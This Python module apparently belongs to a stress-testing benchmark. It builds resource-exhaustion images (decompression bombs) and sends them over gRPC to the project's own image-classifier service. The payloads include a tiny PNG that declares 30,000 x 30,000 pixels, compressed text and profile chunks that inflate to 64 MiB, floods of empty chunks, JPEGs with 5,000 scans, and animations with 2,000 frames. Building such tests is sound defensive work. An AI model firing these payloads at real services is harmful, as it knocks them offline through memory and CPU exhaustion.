"""Attacks by pictures that take far more to decode than to send."""

import io
import struct
import zlib
from collections import Counter
from collections.abc import Sequence

from PIL import Image

from bench.attacks.by_grpc import calls
from bench.attacks.target import Target
from inferry_proto.classifier_pb2 import ClassifyRequest
from inferry_proto.services import IMAGE_CLASSIFIER
from testkit.pictures import a_jpeg, encode_picture, grey

MODEL, SIDE = "pictures", 28
_PATH = IMAGE_CLASSIFIER["Classify"].path
_SIGNATURE_BYTES = 8
_GREY_BIT = struct.pack(">BBBBB", 1, 0, 0, 0, 0)  # one bit a pixel, grey, nothing special


def pixels(target: Target) -> Counter[str]:
    """40 PNG files of 110 KB with 30,000 x 30,000 pixels."""
    rows = zlib.compressobj(9)
    line = bytes(1 + 30_000 // 8)
    packed = b"".join(rows.compress(line * 100) for _ in range(300)) + rows.flush()
    header = struct.pack(">II", 30_000, 30_000) + _GREY_BIT
    return _asked(target, [_png((b"IHDR", header), (b"IDAT", packed), (b"IEND", b""))] * 40)


def scans(target: Target) -> Counter[str]:
    """40 progressive JPEG files of 64 x 64 pixels with 5,000 scans."""
    return _asked(target, [a_jpeg(5000)] * 40)


def chunks(target: Target) -> Counter[str]:
    """20 PNG files of 28 x 28 pixels with 200,000 empty chunks."""
    return _asked(target, [_with_chunks((b"teSt", b""), 200_000)] * 20)


def compressed_chunks(target: Target) -> Counter[str]:
    """20 PNG files of 28 x 28 pixels with 100 texts and a profile of 60 KB each that become 64 MiB."""
    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64)) + packer.flush()
    text, profile = (b"zTXt", b"a\0\0" + bomb), (b"iCCP", b"a\0\0" + bomb)
    return _asked(target, [_with_chunks(text, 100, profile)] * 20)


def frames(target: Target) -> Counter[str]:
    """40 animated PNG and 40 animated WebP files of 28 x 28 pixels with 2,000 frames."""
    shown = [Image.fromarray(grey(number % 256, SIDE)) for number in range(2000)]
    animated = []
    for kind, options in (("PNG", {}), ("WEBP", {"lossless": True, "method": 0})):
        file = io.BytesIO()
        shown[0].save(file, kind, save_all=True, append_images=shown[1:], **options)
        animated.append(file.getvalue())
    return _asked(target, animated * 40)


def _asked(target: Target, pictures: Sequence[bytes]) -> Counter[str]:
    """How requests for pictures end, four at a time."""
    asked = [ClassifyRequest(model_name=MODEL, images=[{"encoded": one}]).SerializeToString() for one in pictures]
    return calls(target, asked, at_once=4, path=_PATH)


def _with_chunks(chunk: tuple[bytes, bytes], count: int, *others: tuple[bytes, bytes]) -> bytes:
    """A good picture with so many chunks more behind its header, and some others before those."""
    plain = encode_picture(grey(9, SIDE))
    end = _SIGNATURE_BYTES + 12 + 13  # of the header's chunk
    return plain[:end] + b"".join(map(_chunk, others)) + _chunk(chunk) * count + plain[end:]


def _png(*parts: tuple[bytes, bytes]) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"".join(map(_chunk, parts))


def _chunk(part: tuple[bytes, bytes]) -> bytes:
    kind, content = part
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
